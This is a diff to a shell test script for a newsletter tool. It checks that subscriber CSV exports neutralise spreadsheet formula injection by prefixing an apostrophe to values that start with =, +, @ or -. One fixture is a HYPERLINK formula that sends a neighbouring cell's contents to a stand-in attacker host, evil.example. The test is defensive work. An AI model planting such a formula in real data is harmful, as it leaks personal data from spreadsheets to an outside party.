@@ -154,6 +154,11 @@ check "--dry-run --resubscribe changed nothing" test "$before" = "$(dump)"
 # export -> import changes nothing, attributes and non-ASCII names included
 "$NB" subscribers add li@example.org --name "李明" --attr country="中国" --attr note='says "hi", twice' >/dev/null
 "$NB" subscribers add multi@example.org --name "Line, Comma \"Quote\"" --attr city=" padded " >/dev/null
+# ... and values a spreadsheet would run as formulas (the web form takes
+# any name): exported behind an apostrophe, imported without it.
+"$NB" subscribers add =eq@example.org --name '=HYPERLINK("https://evil.example/?"&A3,"Click")' \
+	--attr phone='+33 1 23' --attr note="'=x" >/dev/null
+"$NB" subscribers add +plus@example.org --name '@Ann' --attr note='-1' --attr city="'quoted'" >/dev/null
 check "export -o" "$NB" subscribers export -o export.csv
 check "export to stdout is the same" sh -c '"$0" subscribers export | cmp -s - export.csv' "$NB"
 check "export -o writes a private file (0600: addresses are personal data)" sh -c 'stat -c %a export.csv | grep -qx 600'
@@ -167,6 +172,12 @@ check "import of the export: all unchanged" sh -c '"$0" subscribers import expor
 check "import of the export changed nothing" test "$before" = "$(dump)"
 mkdir -p other && (cd other && "$NB" subscribers import ../export.csv >/dev/null && "$NB" subscribers export -o ../export2.csv)
 check "export -> import into a new database -> export is identical" cmp export.csv export2.csv
+check "a formula is exported behind an apostrophe" grep -q \
+	"^'=eq@example.org,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A3,\"\"Click\"\")\",.*'+33 1 23" export.csv
+check "  so is '=x, with one more" grep -q "^'=eq@example.org,.*,''=x," export.csv
+check "  and no field of the export starts a formula" sh -c \
+	"! grep -Eq '(^|,)\"?[-=+@]' export.csv"
+check "  while 'quoted' is written as it is" grep -q "^'+plus@example.org,'@Ann,'quoted',.*'-1" export.csv
 check "non-ASCII and quoted values survived" grep -q '^li@example.org,李明,.*,中国,.*,"says ""hi"", twice"' export.csv
 
 # attributes reach the templates as {{subscriber.<key>}} (send to the Maildir outbox)
